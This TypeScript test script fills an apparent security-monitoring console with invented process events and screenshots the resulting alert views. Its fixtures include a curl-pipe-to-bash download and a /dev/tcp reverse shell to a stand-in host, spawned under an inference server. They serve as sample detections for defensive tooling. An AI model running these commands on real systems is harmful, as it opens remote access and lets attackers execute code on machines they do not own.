// deno run -A tests/browser/pictures.ts FOLDER
//
// Makes the pictures of the console: the first page and an alert, light and dark, from stored
// events of a made-up afternoon.

import {
  alertOf,
  forkRecord,
  openTestHive,
  processRecord,
  type TestProcess,
} from "../../hive/api/_test_support.ts";
import { hasChromium, openBrowser } from "./_browser.ts";
import { type ServedHive, serveTestHive } from "./_served_hive.ts";

const INIT: TestProcess = {
  pid: 1,
  bootS: 1,
  image: "/usr/lib/systemd/systemd",
  argv: ["/sbin/init"],
};
const SERVER: TestProcess = {
  pid: 2210,
  bootS: 300,
  parent: INIT,
  image: "/opt/vllm/bin/python3.12",
  argv: ["python3", "-m", "vllm.entrypoints.openai.api_server", "--port", "8000"],
};
const SHELL: TestProcess = {
  pid: 5120,
  bootS: 5396,
  parent: SERVER,
  image: "/usr/bin/dash",
  argv: ["sh", "-c", "curl -fsSL http://198.51.100.7/s | bash"],
};
const REVERSE: TestProcess = {
  pid: 5123,
  bootS: 5397.2,
  parent: SHELL,
  image: "/usr/bin/bash",
  argv: ["bash", "-c", "exec 3<>/dev/tcp/198.51.100.7/4444; while read -u 3 l; do $l >&3; done"],
};
const ID: TestProcess = {
  pid: 5130,
  bootS: 5398,
  parent: REVERSE,
  image: "/usr/bin/id",
  argv: ["id", "-u"],
};

/** Minutes of ordinary work before the pictures. */
const MINUTES = 30;
const VIEWPORT = { width: 1280, height: 860 };

async function fill({ hive }: ServedHive): Promise<void> {
  await hive.deliver([processRecord("process", INIT), processRecord("process", SERVER)], [
    { cause: 1, kind: 18, source: 0x4000, certain: true, count: 12, first: 900 },
  ]);
  for (let minute = 0; minute < MINUTES; minute++) {
    hive.clock.advance(60_000);
    const count = 30 + Math.round(24 * Math.abs(Math.sin(minute / 3)) + minute / 2);
    await hive.deliver(
      Array.from(
        { length: count },
        (_, i) =>
          processRecord("exec", {
            ...ID,
            pid: 10_000 + i,
            bootS: 3600 + minute * 60,
            parent: INIT,
          }),
      ),
    );
  }
  await hive.deliver([
    processRecord("exec", SHELL),
    forkRecord(REVERSE),
    processRecord("exec", REVERSE),
    processRecord("exec", ID),
    alertOf(SHELL, { title: "Inference server runs a shell that downloads and executes" }).record,
    alertOf(REVERSE, {
      title: "Shell opened a network connection through /dev/tcp",
      severity: "critical",
    }).record,
    alertOf(ID, { title: "User discovery below an inference server", severity: "medium" }).record,
  ]);
  hive.clock.advance(3000);
}

async function main([folder]: readonly string[]): Promise<number> {
  if (folder === undefined || !hasChromium()) {
    console.error("Cannot make pictures: name a folder, and install Chromium");
    return 2;
  }
  await Deno.mkdir(folder, { recursive: true });
  await using served = await serveTestHive(await openTestHive());
  await fill(served);
  await using opened = await openBrowser();
  for (const colorScheme of ["light", "dark"] as const) {
    const context = await opened.browser.newContext({
      colorScheme,
      viewport: VIEWPORT,
      reducedMotion: "reduce",
    });
    const page = await context.newPage();
    await page.goto(served.loginLink());
    await page.screenshot({ path: `${folder}/console_${colorScheme}.png` });
    await page.getByRole("link", { name: "/dev/tcp" }).click();
    await page.getByRole("heading", { name: "Process tree" }).waitFor();
    await page.screenshot({ path: `${folder}/alert_${colorScheme}.png` });
    await context.close();
  }
  return 0;
}

if (import.meta.main) Deno.exit(await main(Deno.args));
